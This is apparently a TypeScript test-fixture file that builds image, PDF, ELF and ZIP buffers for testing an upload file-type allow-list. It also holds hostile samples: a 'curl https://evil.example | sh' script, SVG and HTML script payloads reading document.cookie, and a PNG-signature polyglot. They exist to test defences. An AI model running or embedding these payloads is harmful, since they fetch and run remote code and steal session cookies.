import { crc32, deflateSync } from 'node:zlib';

/** Small, well-formed files of every accepted type (and some that only pretend), built in memory. */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A real PNG (grey pixels); `padding` bytes of extra data make it as large as a test needs. */
export function png(width: number, height: number, padding = 0): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
  const rows = Buffer.alloc((width + 1) * height, 0x80);
  for (let y = 0; y < height; y++) rows[y * (width + 1)] = 0;
  const chunks = [
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
  ];
  if (padding > 0) chunks.push(pngChunk('teXt', Buffer.alloc(padding, 0x61)));
  chunks.push(pngChunk('IEND', Buffer.alloc(0)));
  return Buffer.concat(chunks);
}

export function gif(width: number, height: number): Buffer {
  const b = Buffer.from('474946383961000000000000002c000000000100010000020144003b', 'hex');
  b.writeUInt16LE(width, 6);
  b.writeUInt16LE(height, 8);
  return b;
}

/** A JPEG whose frame header follows a large metadata segment (read across many chunks). */
export function jpeg(width: number, height: number, metadataBytes = 60_000): Buffer {
  const app0 = Buffer.from('ffe000104a46494600010100000100010000', 'hex');
  const app1 = Buffer.alloc(4 + metadataBytes, 0x45);
  app1.writeUInt16BE(0xffe1, 0);
  app1.writeUInt16BE(2 + metadataBytes, 2);
  const sof = Buffer.from('ffc0000b080000000001011100', 'hex');
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  const scan = Buffer.from('ffda0008010100003f00d2cf20ffd9', 'hex');
  return Buffer.concat([Buffer.from('ffd8', 'hex'), app0, app1, sof, scan]);
}

/** A lossless WebP header (VP8L) for the given size. */
export function webp(width: number, height: number): Buffer {
  const vp8l = Buffer.alloc(5 + 8);
  vp8l[0] = 0x2f;
  vp8l.writeUInt32LE(((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14), 1);
  const chunk = Buffer.concat([Buffer.from('VP8L', 'latin1'), Buffer.alloc(4), vp8l]);
  chunk.writeUInt32LE(vp8l.length, 4);
  const riff = Buffer.concat([
    Buffer.from('RIFF', 'latin1'),
    Buffer.alloc(4),
    Buffer.from('WEBP', 'latin1'),
    chunk,
  ]);
  riff.writeUInt32LE(riff.length - 8, 4);
  return riff;
}

export function pdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
}

export const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);
export const HTML = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>');
/** A PNG signature with a script behind it: the signature alone must not pass. */
export const PNG_POLYGLOT = Buffer.concat([
  Buffer.from('89504e470d0a1a0a', 'hex'),
  Buffer.from('<script>alert(1)</script>'),
]);

/**
 * Files a sniffer does recognise, as types outside the allow-list: each would pass if only
 * "some type was found" were checked.
 */
export const SVG_WITH_PROLOG = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(document.cookie)</script></svg>',
);

/** The start of a 64-bit little-endian ELF executable (header fields as a linker writes them). */
export function elf(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(header); // magic, 64-bit, LE, v1, SysV
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20); // EV_CURRENT
  header.writeUInt16LE(64, 52); // header size
  return Buffer.concat([header, Buffer.alloc(64)]);
}

/** A ZIP archive holding one stored file (local header, data, central directory, end record). */
export function zip(name = 'payload.html', content = '<script>alert(1)</script>'): Buffer {
  const fileName = Buffer.from(name);
  const data = Buffer.from(content);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4); // version made by
  central.writeUInt16LE(20, 6); // version needed
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const entries = Buffer.concat([local, fileName, data]);
  const directory = Buffer.concat([central, fileName]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(entries.length, 16);
  return Buffer.concat([entries, directory, end]);
}
